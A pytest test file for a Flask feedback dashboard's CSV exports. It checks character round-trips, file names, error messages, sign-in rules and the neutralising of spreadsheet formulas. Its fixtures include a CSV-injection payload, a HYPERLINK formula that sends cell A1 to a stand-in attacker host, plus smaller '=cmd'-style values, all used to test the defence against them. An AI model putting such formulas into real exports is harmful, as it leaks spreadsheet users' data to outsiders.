"""CSV exports on real stores: exact characters, neutralised formulas, names and errors."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import Engine, select

from tests.support.data import insert_rows, response_row
from wallboard import store
from wallboard.config import parse_config
from wallboard.meeting.exports import FOLLOWUP_HEADER, RESPONSE_HEADER, register, safe_cell
from wallboard.meeting.followups import update_followup

TZ = ZoneInfo("Europe/Copenhagen")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik her")'
COMMENTS = ["Rigtig god service – tak! Æblegrød, øl og på gensyn",
            "Świetna obsługa, dziękuję bardzo 👍🎉", HYPERLINK,
            'Linje et\nLinje "to", med komma', "-2 stars", "@SUM(A1)", "+45 12 34 56 78",
            "\tindented", ""]


@pytest.fixture
def engine(store_url: str) -> Iterator[Engine]:
    engine = store.open_store(store_url)
    yield engine
    engine.dispose()


@pytest.fixture
def client(engine: Engine, tmp_path: Path) -> FlaskClient:
    # Without the sign-in guard: these tests are about the CSV, test_auth about the guard.
    config = parse_config({"wall": {"timezone": "Europe/Copenhagen"},
                           "teams": [{"key": "support", "name": "Kundeservice"},
                                     {"key": "sales", "name": "Salg"}]},
                          tmp_path / "config.toml")
    server = Flask(__name__)
    register(server, config, engine)
    return server.test_client()


def custom_range() -> dict[str, str]:
    today = datetime.now(TZ).date()
    return {"period": "custom", "start": (today - timedelta(days=3)).isoformat(),
            "end": today.isoformat()}


def read_csv(body: bytes) -> list[list[str]]:
    assert body.startswith("\ufeff".encode())  # the BOM Excel needs for UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def ids(engine: Engine) -> dict[str, int]:
    with engine.connect() as conn:
        return dict(conn.execute(select(store.RESPONSE.c.external_id,
                                        store.RESPONSE.c.id)).all())


def test_responses_csv_round_trips_every_character(engine: Engine,
                                                   client: FlaskClient) -> None:
    rows = [response_row(score, minutes_ago=30 + n, comment=comment, external_id=f"x-{n}",
                         employee="Søren Ødegård", customer="Łukasz Żółć")
            for n, (score, comment) in enumerate(zip([10, 9, 3, 7, 0, 8, 6, 9, 5], COMMENTS,
                                                     strict=True))]
    rows.append(response_row(10, "sales", minutes_ago=5, employee=None, customer=None))
    rows.append(response_row(1, minutes_ago=60 * 24 * 10))  # before the period
    insert_rows(engine, rows)
    answer = client.get("/meeting/export/responses.csv", query_string={
        "team": "support", **custom_range()})
    assert answer.status_code == 200
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    today = datetime.now(TZ).date()
    expected_name = (f"responses_support_custom_{today - timedelta(days=3)}_{today}.csv")
    assert answer.headers["Content-Disposition"] == f'attachment; filename="{expected_name}"'
    header, *lines = read_csv(answer.data)
    assert tuple(header) == RESPONSE_HEADER
    assert len(lines) == 9
    by_external = {line[2]: dict(zip(header, line, strict=True)) for line in lines}
    for n, row in enumerate(rows[:9]):
        line = by_external[f"x-{n}"]
        comment = row["comment"]
        neutral = "'" + comment if comment[:1] in ("=", "-", "@", "+", "\t") else comment
        assert line["comment"] == neutral
        assert (line["employee"], line["customer"]) == ("Søren Ødegård", "Łukasz Żółć")
        assert int(line["score"]) == row["score"]
        answered = datetime.fromisoformat(line["answered_at"])
        assert answered.utcoffset() == row["answered_at"].astimezone(TZ).utcoffset()
        assert abs(answered - row["answered_at"]) < timedelta(seconds=1)
        assert line["id"] == str(ids(engine)[f"x-{n}"])
    assert by_external["x-2"]["comment"] == "'" + HYPERLINK
    assert [by_external[f"x-{n}"]["category"] for n in (0, 3, 4)] == [
        "promoter", "passive", "detractor"]
    everyone = read_csv(client.get("/meeting/export/responses.csv",
                                   query_string={"team": "all", **custom_range()}).data)
    sales = [line for line in everyone[1:] if line[3] == "sales"]
    assert len(everyone) == 11 and sales[0][4] == sales[0][8] == ""


def test_followups_csv_keeps_status_and_times(engine: Engine, client: FlaskClient) -> None:
    insert_rows(engine, [response_row(2, minutes_ago=60 * 50, external_id="late",
                                      comment="Ingen ringede tilbage"),
                         response_row(4, minutes_ago=60 * 30, external_id="done",
                                      comment="=1+1"),
                         response_row(9, minutes_ago=60, external_id="happy")])
    known = ids(engine)
    now = datetime.now(UTC)
    update_followup(engine, known["done"], by="Mette", now=now, owner="Mette",
                    status="resolved", note="-Kunden fik pengene retur")
    answer = client.get("/meeting/export/followups.csv", query_string=custom_range())
    assert answer.status_code == 200
    assert "followups_all_custom_" in answer.headers["Content-Disposition"]
    header, *lines = read_csv(answer.data)
    assert tuple(header) == FOLLOWUP_HEADER
    got = {int(line[0]): dict(zip(header, line, strict=True)) for line in lines}
    assert set(got) == {known["late"], known["done"]}
    done, late = got[known["done"]], got[known["late"]]
    assert (done["status"], done["owner"], done["overdue"], done["comment"]) == (
        "resolved", "Mette", "no", "'=1+1")
    assert done["note"] == "'-Kunden fik pengene retur"
    assert abs(datetime.fromisoformat(done["resolved_at"]) - now) < timedelta(seconds=1)
    assert done["contacted_at"] == "" and done["updated_by"] == "Mette"
    assert done["in_time"] == "yes"  # resolved 30 h after the answer, inside 48 h
    assert (late["status"], late["owner"], late["overdue"], late["resolved_at"]) == (
        "open", "", "yes", "")
    assert late["in_time"] == "no"
    deadline = datetime.fromisoformat(late["deadline"])
    assert deadline - datetime.fromisoformat(late["answered_at"]) == timedelta(hours=48)


def test_in_time_column() -> None:
    from types import SimpleNamespace

    from wallboard.meeting.exports import in_time

    answered = datetime(2026, 11, 20, 9, tzinfo=UTC)
    deadline = answered + timedelta(hours=48)

    def item(contacted=None, resolved=None, overdue=False):  # noqa: ANN001, ANN202
        return SimpleNamespace(contacted_at=contacted, resolved_at=resolved,
                               deadline=deadline, overdue=overdue)

    assert in_time(item(contacted=answered + timedelta(hours=47))) == "yes"
    assert in_time(item(resolved=answered + timedelta(hours=50))) == "no"  # late, not overdue
    assert in_time(item(contacted=answered + timedelta(hours=49),
                        resolved=answered + timedelta(hours=2))) == "yes"
    assert in_time(item(overdue=True)) == "no"
    assert in_time(item()) == ""  # open, not yet due


@pytest.mark.parametrize(("query", "message"), [
    ({"period": "yesterday"}, "unknown period 'yesterday'; choose one of: this_week"),
    ({"team": "marketing"}, "unknown team 'marketing'; choose one of: all, sales, support"),
    ({"period": "custom", "start": "2026-13-01", "end": "2026-03-02"},
     "start date '2026-13-01' is not a date"),
    ({"period": "custom", "start": "2026-03-05"}, "custom period needs"),
    ({"period": "custom", "start": "2026-03-05", "end": "2026-03-01"},
     "the custom period ends (2026-03-01) before it starts (2026-03-05)"),
])
@pytest.mark.parametrize("kind", ["responses", "followups"])
def test_bad_parameters_get_a_clear_400(client: FlaskClient, kind: str, query: dict,
                                        message: str) -> None:
    answer = client.get(f"/meeting/export/{kind}.csv", query_string=query)
    assert answer.status_code == 400
    assert message in answer.get_data(as_text=True)


def test_defaults_are_all_teams_this_week_and_empty_is_a_header(client: FlaskClient) -> None:
    answer = client.get("/meeting/export/followups.csv")
    monday = datetime.now(TZ).date()
    monday -= timedelta(days=monday.weekday())
    assert f"followups_all_this_week_{monday}_" in answer.headers["Content-Disposition"]
    assert read_csv(answer.data) == [list(FOLLOWUP_HEADER)]


@pytest.mark.parametrize(("value", "shown"), [
    ("=cmd", "'=cmd"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("a=b", "a=b"), ("", ""), (7, 7), (date(2026, 1, 2), date(2026, 1, 2)),
])
def test_safe_cell(value: object, shown: object) -> None:
    assert safe_cell(value) == shown


def test_exports_need_a_sign_in_and_a_session_does_not_open_the_api(
        engine: Engine, tmp_path: Path) -> None:
    from wallboard import accounts
    from wallboard.accounts import users
    from wallboard.meeting import followups_api

    config = parse_config({"api": {"token": "s3cret"}}, tmp_path / "config.toml")
    server = Flask(__name__)
    accounts.register(server, config, engine)
    register(server, config, engine)
    followups_api.register(server, config, engine)
    users.add_user(engine, "mette", "a long passphrase 42")
    insert_rows(engine, [response_row(3, minutes_ago=5, external_id="d")])
    rid = ids(engine)["d"]
    web = server.test_client()
    url = "/meeting/export/responses.csv"
    assert web.get(url, headers={"Accept": "text/csv"}).status_code == 401
    assert web.get(url, headers={"Accept": "text/html"}).status_code == 302
    signed_in = web.post("/login", data={"username": "mette", "password":
                                         "a long passphrase 42", "next": "/meeting/"})
    assert signed_in.status_code == 303
    answer = web.get(url)
    assert answer.status_code == 200 and len(read_csv(answer.data)) == 2
    assert web.post(f"/api/followups/{rid}", json={"status": "contacted"}).status_code == 401
